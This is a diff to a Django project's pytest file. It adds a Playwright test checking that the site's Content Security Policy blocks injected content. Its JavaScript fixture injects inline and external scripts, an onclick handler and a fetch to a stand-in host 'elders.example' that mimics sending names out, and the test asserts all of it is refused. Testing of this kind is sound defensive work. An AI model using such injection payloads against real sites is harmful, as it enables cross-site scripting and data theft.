@@ -8,16 +8,18 @@ import pytest
 from django.conf import settings
 from django.http import HttpRequest, HttpResponse
 from django.test import Client
+from playwright.sync_api import Browser
 from pytest_django import Settings
 
 from dwarsverband.foundation.access import middleware
 from dwarsverband.foundation.api.headers import ALWAYS
 from tests.answers import Response
 from tests.cast import Cast
+from tests.live import Live
 from tests.machines import ask, token
 from tests.places import every_place, secrets_of, things_of
 
-LARGE = b"x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
+LARGE = b"x" * (settings.FILE_UPLOAD_MAX_MEMORY_SIZE + 1)
 
 # The description of the API is for everybody; other sites may read it.
 OPEN = "Cross-Origin-Resource-Policy"
@@ -71,6 +73,8 @@ def test_a_file_a_style_and_what_is_not_there_answer_with_them(cast: Cast) -> No
     own = Path("dwarsverband/foundation/ui/static")
     script = next(path for path in sorted(own.rglob("*.js")))
     found = noor.get(f"/static/{script.relative_to(own)}")
+    for close in found._resource_closers:  # type: ignore[attr-defined]  # closing the answer would close the database too
+        close()
     assert found.status_code == 200
     for told, answered in {
         **files,
@@ -141,3 +145,43 @@ def test_what_breaks_answers_with_them(
     assert not _missing(answered, address)
     if address.startswith("/api/"):
         assert json.loads(answered.content)["status"] == 500
+
+
+INJECTED = """async () => {
+    const refused = [];
+    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
+    const put = (name, values) =>
+        document.body.appendChild(Object.assign(document.createElement(name), values));
+    window.ran = [];
+    put("script", {textContent: "window.ran.push('inline')"});
+    put("script", {src: "https://elders.example/a.js"});
+    put("img", {src: "https://elders.example/a.png"});
+    put("iframe", {src: "https://elders.example/"});
+    put("div", {innerHTML: "<b style='color: red' onclick='window.ran.push(1)'>x</b>"});
+    document.body.lastChild.firstChild.click();
+    const told = await fetch("https://elders.example/?names").then(() => "sent", () => "refused");
+    await new Promise((done) => setTimeout(done, 200));
+    return {ran: window.ran, told, refused: [...new Set(refused)].sort()};
+}"""
+
+
+def test_a_browser_runs_nothing_that_was_put_in_a_page_and_asks_nothing_elsewhere(
+    live: Live, browser: Browser
+) -> None:
+    page = browser.new_context(base_url=live.address).new_page()
+    asked: list[str] = []
+    page.on("requestfinished", lambda request: asked.append(request.url))
+    page.on("requestfailed", lambda request: asked.append(f"{request.failure} {request.url}"))
+    page.goto("/inloggen")
+    found = page.evaluate(INJECTED)
+    page.context.close()
+    assert found["ran"] == []
+    assert found["told"] == "refused"
+    assert {
+        "script-src-elem",
+        "img-src",
+        "connect-src",
+        "style-src-attr",
+        "script-src-attr",
+    } <= set(found["refused"])
+    assert not [one for one in asked if not one.startswith((live.address, "csp "))]
